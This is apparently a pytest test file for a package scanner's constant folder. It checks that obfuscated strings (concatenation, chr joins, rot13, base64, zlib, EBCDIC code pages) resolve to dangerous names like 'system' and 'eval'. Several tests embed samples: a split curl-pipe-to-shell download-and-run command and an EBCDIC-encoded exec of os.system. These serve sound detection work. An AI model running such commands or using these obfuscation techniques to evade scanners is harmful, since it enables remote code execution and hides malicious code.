"""Constant folding: values computed from constants without running anything, within budgets."""

import ast
import base64
import bz2
import codecs
import zlib

import pytest

from pypi_platform.lib.scans.folding import MAX_VALUE
from pypi_platform.lib.scans.resolution import NameTable
from pypi_platform_tests.lib.scans.python_scan import found


def _fold(source: str):
    """The folded value of the last expression in source, names assigned above it followed."""
    table = NameTable()
    tree = ast.parse(source)
    for statement in tree.body[:-1]:
        for target in statement.targets:
            table.values.setdefault((0, target.id), []).append(statement.value)
    table.aliases.update({name: name for name in ("base64", "codecs", "zlib", "bz2", "lzma", "marshal")})
    return table.folder.value(tree.body[-1].value, 0)


@pytest.mark.parametrize(
    ("expression", "value"),
    [
        ("'sy' + 'st' + 'em'", "system"),
        ("''.join(['o', 's'])", "os"),
        ("'%s.%s' % ('os', 'system')", "os.system"),
        ("'{}.{}'.format('os', 'popen')", "os.popen"),
        ("f\"{'ev'}al\"", "eval"),
        ("''.join(chr(c) for c in [101, 118, 97, 108])", "eval"),
        ("''.join(map(chr, [101, 120, 101, 99]))", "exec"),
        ("''.join([chr(c ^ 1) for c in [100, 119, 96, 109]])", "eval"),
        ("'metsys'[::-1]", "system"),
        ("bytes.fromhex('6f73')", b"os"),
        ("'\\x6f\\x73'", "os"),
        ("codecs.decode('flfgrz', 'rot13')", "system"),
        ("'system'.encode('cp1026').decode('cp1026')", "system"),
        (f"base64.b64decode({base64.b64encode(b'system')!r})", b"system"),
        (f"base64.b32decode({base64.b32encode(b'system')!r})", b"system"),
        (f"base64.b85decode({base64.b85encode(b'system')!r})", b"system"),
        (f"zlib.decompress({zlib.compress(b'system')!r})", b"system"),
        (f"bz2.decompress({bz2.compress(b'system')!r})", b"system"),
        (f"{codecs.encode('system', 'cp500')!r}.decode('cp500')", "system"),
        ("bytes([111, 115])", b"os"),
    ],
)
def test_constant_expressions_fold_to_their_value(expression, value):
    assert _fold(expression) == value


def test_names_assigned_once_are_followed_and_reassigned_ones_are_not():
    assert _fold("a = 'sy'\nb = a + 'stem'\nb") == "system"
    assert _fold("a = 'sy'\na = 'po'\na + 'pen'") is None


def test_marshal_data_is_never_loaded():
    assert _fold("marshal.loads(b'\\xe3\\x00')") is None


def test_anything_computed_at_run_time_does_not_fold():
    assert _fold("'os.' + name") is None
    assert _fold("'{}'.format(x)") is None
    assert _fold("'%s' % user_input") is None


def test_a_decompression_bomb_stops_at_the_value_cap():
    bomb = zlib.compress(b"\0" * (50 * MAX_VALUE))
    value = _fold(f"zlib.decompress({bomb!r})")
    assert value is not None and len(value) <= MAX_VALUE


def test_repetition_and_formatting_beyond_the_cap_do_not_fold():
    assert _fold("'a' * 10**9") is None
    assert _fold("'%999999999s' % 'x'") is None
    assert _fold("'{:>999999999}'.format('x')") is None


def test_a_long_concatenation_chain_folds_without_recursion():
    chain = " + ".join(["'a'"] * 900)  # deeper than the fold's depth bound, as deep as the parser allows
    assert _fold(chain) == "a" * 900


def test_bad_input_to_a_decoder_is_unknown_not_an_error():
    assert _fold("base64.b64decode('abc')") is None
    assert _fold("zlib.decompress(b'not zlib')") is None
    assert _fold("'x'.decode('no-such-codec')") is None


def test_folded_commands_reach_the_shell_checks():
    source = """
    import os
    os.system('cu' + 'rl -s http://example.invalid/a.sh | s' + 'h')
    """
    assert ("process.shell-download", 3) in found(source)


def test_a_payload_encoded_with_an_ebcdic_code_page_and_executed_is_decode_and_exec():
    payload = "import os; os.system('id')".encode("cp1026")
    found_rules = found(f"exec({payload!r}.decode('cp1026'))\n")
    assert ("obfuscation.decode-and-exec", 1) in found_rules and ("process.spawn", 1) in found_rules


def test_format_folds_a_url_whose_colons_lie_outside_the_fields():
    assert _fold("target = '%s.%s.%s.%s' % (198, 51, 100, 93)\n'http://{}:{}/x'.format(target, 8000)") == (
        "http://198.51.100.93:8000/x"
    )
    assert _fold("'{{a:b}}{}'.format('c')") == "{a:b}c"
    assert _fold("'{!r}:{}'.format('a', 'b')") is None  # a conversion inside a field is refused
